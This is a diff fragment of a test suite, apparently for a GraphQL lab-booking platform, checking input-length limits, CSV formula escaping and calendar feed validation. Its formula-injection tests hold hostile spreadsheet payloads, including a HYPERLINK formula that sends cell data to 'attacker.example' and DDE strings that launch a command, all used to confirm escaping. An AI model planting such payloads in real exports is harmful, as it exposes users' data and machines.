+    { name: 'a 101-character request key', as: 'chen.jing', guard: true, request: (m) => op(SUBMIT, { input: { ...validRequest(m), idempotencyKey: `k${m}${huge(100)}` } }), expect: BAD_USER_INPUT },
+    { name: 'a 201-character offering name', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), name: `${m}${huge(200)}` } }), expect: BAD_USER_INPUT },
+    { name: 'a 2 001-character requirements text', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), requirements: `${m}${huge(2_000)}` } }), expect: BAD_USER_INPUT },
+    { name: 'a sample form of 31 fields', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), sampleForm: Array.from({ length: 31 }, (_, i) => ({ name: `f${i}`, label: `Field ${i}`, type: 'TEXT' })) } }), expect: BAD_USER_INPUT },
+    { name: 'a price list of 41 prices', as: 'sc.admin', guard: true, request: (m) => op(CREATE_OFFERING, { input: { ...validOffering(m), prices: Array.from({ length: 41 }, (_, i) => ({ category: 'ENTERPRISE', band: `B${i}`, fromHour: 1, toHour: 2, amountFen: 1 })) } }), expect: BAD_USER_INPUT },
+    { name: 'a 10 000-character quote note', as: 'sc.admin', guard: true, request: (m) => op(QUOTE, { id: sx.scRequest, a: 1_000, u: daysFromNow(20), n: `${m}${huge(10_000)}` }), expect: BAD_USER_INPUT },
+    { name: 'a 10 000-character decline reason', as: 'chen.jing', guard: true, request: async (m) => op('mutation($id: ID!, $r: String!) { declineSichuanServiceQuote(id: $id, reason: $r) { id } }', { id: await requestAt('QUOTED'), r: `${m}${huge(10_000)}` }), expect: BAD_USER_INPUT },
+    { name: 'a 10 000-character credit reason', as: 'sc.admin', guard: true, request: (m) => op(CREDIT, { id: sx.scCharge, a: 100, r: `${m}${huge(10_000)}` }), expect: BAD_USER_INPUT },
+    { name: 'a 1 000-character report file name', as: 'sc.admin', guard: true, request: async (m) => op(ISSUE_REPORT, { id: await requestAt('IN_PROGRESS'), r: { ...validReport(m), fileName: `${m}${huge(1_000)}.pdf` } }), expect: BAD_USER_INPUT },
+    {
+      name: 'a report over 512 KiB',
+      as: 'sc.admin',
+      guard: true,
+      request: async (m) => op(ISSUE_REPORT, { id: await requestAt('IN_PROGRESS'), r: { ...validReport(m), contentBase64: Buffer.concat([Buffer.from(PDF, 'base64'), Buffer.alloc(600 * 1024, 32)]).toString('base64') } }),
+      expect: BAD_USER_INPUT,
+    },
+    { name: 'a 201-character voucher holder name', as: 'sc.admin', guard: true, request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), holderName: `${m}${huge(200)}` } }), expect: BAD_USER_INPUT },
+    {
+      name: 'a voucher accepted 10 000 times in Sichuan is accepted there once',
+      as: 'sc.admin',
+      request: (m) => op(ISSUE_VOUCHER, { input: { ...validVoucher(m), acceptedIn: Array.from({ length: 10_000 }, () => 'SICHUAN') } }),
+      expect: { ok: (data) => expect(data.result.acceptedIn).toEqual(['SICHUAN']) },
+    },
+    { name: 'a 10 000-character charge reference to reserve for', as: 'chen.jing', guard: true, request: () => op(RESERVE, { ...validReserve(), ref: huge(10_000) }), expect: BAD_USER_INPUT },
+    { name: 'a 10 000-character charge reference to pay', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), ref: huge(10_000) }), expect: BAD_USER_INPUT },
+    { name: 'a 10 000-character payment key', as: 'chen.jing', guard: true, request: (m) => op(PAY, { ...validPay(m), k: huge(10_000) }), expect: BAD_USER_INPUT },
+    { name: 'a 10 000-character webhook address', as: 'sc.admin', guard: true, request: (m) => op(SUBSCRIBE, { input: { ...validSubscription(m), url: `http://127.0.0.1:9/${huge(10_000)}` } }), expect: BAD_USER_INPUT },
+    { name: 'a webhook for 10 000 event types', as: 'sc.admin', guard: true, request: (m) => op(SUBSCRIBE, { input: { ...validSubscription(m), eventTypes: Array.from({ length: 10_000 }, () => 'booking.confirmed') } }), expect: BAD_USER_INPUT },
+    { name: 'a 10 000-character webhook description', as: 'sc.admin', guard: true, request: (m) => op(SUBSCRIBE, { input: { ...validSubscription(m), description: `${m}${huge(10_000)}` } }), expect: BAD_USER_INPUT },
+    { name: 'events of 10 000 types', as: 'sc.admin', request: () => op('query($t: [String!]) { sichuan { events(types: $t) { edges { cursor } } } }', { t: Array.from({ length: 10_000 }, (_, i) => `type${i}`) }), expect: BAD_USER_INPUT },
+    { name: 'a 100 000-character callback address', targets: ['gateway', 'platform'], request: () => op('mutation($c: String!) { completeExternalSignIn(provider: "demo", callbackUrl: $c) { token } }', { c: `http://127.0.0.1:5173/signed-in?code=${huge(100_000)}` }), expect: BAD_USER_INPUT },
+    { name: 'a 10 000-character provider name', targets: ['gateway', 'platform'], request: () => op('mutation($p: String!) { beginExternalSignIn(provider: $p, redirectUri: "http://127.0.0.1:5173/signed-in") { state } }', { p: huge(10_000) }), expect: BAD_USER_INPUT },
+  ]);
+});
+
+// Text from callers that starts like a formula reaches the finance export as text, never as a formula a spreadsheet would run.
+describe('formulas in the charges export', () => {
+  const CSV = 'query($from: DateTime!, $to: DateTime!) { sichuan { chargesCsv(from: $from, to: $to) } }';
+  const FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Refund")', "+cmd|' /C calc'!A0", '-2+3+cmd|calc!A0', '@SUM(1+1)*cmd|calc!A0'];
+  cases(FORMULAS.map((reason): Case => {
+    let chargeId = '';
+    return {
+      name: `a credit reason of ${reason.slice(0, 12)}…`,
+      as: 'sc.admin',
+      request: async () => {
+        chargeId = await chargeFor(sql, 'sichuan', 10_000);
+        await must(CREDIT, fx.tokens['sc.admin'], { id: chargeId, a: 100, r: reason });
+        return op(CSV, { from: daysFromNow(-1), to: daysFromNow(1) });
+      },
+      expect: {
+        ok: (data) => {
+          const rows = parse(data.sichuan.chargesCsv, { columns: true }) as Record<string, string>[];
+          const credit = rows.find((row) => row['charge_id'] === chargeId && row['line_kind'] === 'CREDIT');
+          expect(credit).toMatchObject({ reason: `'${reason}`, amount_fen: '-100' });
+        },
+      },
+    };
+  }));
+});
+
+// The calendar routes answer iCalendar or plain text, not GraphQL: each bad address is a 4xx with a short text, never a 5xx or a leak.
+describe('calendar feed addresses', () => {
+  const FEEDS: readonly (readonly [name: string, path: string, search: string, status: number | readonly number[]])[] = [
+    ['no feed secret', '/calendar/bookings.ics', '', 404],
+    ['a feed secret of SQL text', '/calendar/bookings.ics', `feed=${encodeURIComponent(PAYLOADS['SQL text'])}`, 404],
+    ['a feed secret with a NUL character', '/calendar/bookings.ics', 'feed=ab%00cd', 404],
+    // Refused by the HTTP server itself (headers too large) or as an unknown feed.
+    ['a 100 000-character feed secret', '/calendar/bookings.ics', `feed=${'x'.repeat(100_000)}`, [404, 414, 431]],
+    ['a feed secret given twice', '/calendar/bookings.ics', 'feed=a&feed=b', 404],
+    ['no instrument id', '/calendar/instrument.ics', '', 400],
+    ['an instrument id of script text', '/calendar/instrument.ics', `id=${encodeURIComponent(PAYLOADS['script text'])}`, 400],
+    ['an instrument id with a NUL character', '/calendar/instrument.ics', `id=sc%3Ainstrument%3A${randomUUID()}%00`, 400],
+    ['a lab id as the instrument', '/calendar/instrument.ics', 'id=LAB', 400],
+    ['an instrument that does not exist', '/calendar/instrument.ics', `id=${scId('instrument')}`, 404],
+    ['an instrument of a province that does not exist', '/calendar/instrument.ics', `id=xx%3Ainstrument%3A${randomUUID()}`, 400],
+  ];
+  it.each(FEEDS)('%s: answered %#', async (_, path, search, status) => {
+    const answer = await sendRaw(testSystem().gatewayUrl, { method: 'GET', path, search: search === 'id=LAB' ? `id=${encodeURIComponent(fx.scLab)}` : search });
+    expect({ status: oneOf(answer.status, status), leaks: leaksIn(answer.text, Object.values(PAYLOADS)) }).toEqual({ status: answer.status, leaks: [] });
+  });
 });
 
 describe('after all of that', () => {
